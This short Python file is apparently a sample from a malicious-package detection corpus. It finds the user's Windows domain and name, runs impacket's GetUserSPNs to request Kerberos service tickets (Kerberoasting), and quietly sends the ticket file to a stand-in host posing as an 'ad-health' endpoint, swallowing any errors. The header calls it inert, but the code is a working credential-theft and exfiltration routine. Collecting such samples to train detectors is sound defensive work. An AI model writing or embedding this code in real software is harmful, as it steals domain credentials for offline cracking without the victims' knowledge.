# pkgguard corpus 926 (credentials), modelled on [taxonomy]; inert, never run.
import os
import shutil
import subprocess
import sys
import tempfile

import requests

domain = os.environ.get("USERDNSDOMAIN", "").lower()
user = os.environ.get("USERNAME", "")
tool = shutil.which("GetUserSPNs.py") or shutil.which("impacket-GetUserSPNs")
if domain and user and tool:
    out = os.path.join(tempfile.gettempdir(), "spn.txt")
    subprocess.run(
        [sys.executable, tool, f"{domain}/{user}", "-k", "-no-pass", "-request", "-outputfile", out],
        capture_output=True,
        timeout=120,
    )
    if os.path.exists(out):
        with open(out, "rb") as fh:
            try:
                requests.post("https://ad-health.example/tickets", data=fh.read(), timeout=10)
            except requests.RequestException:
                pass
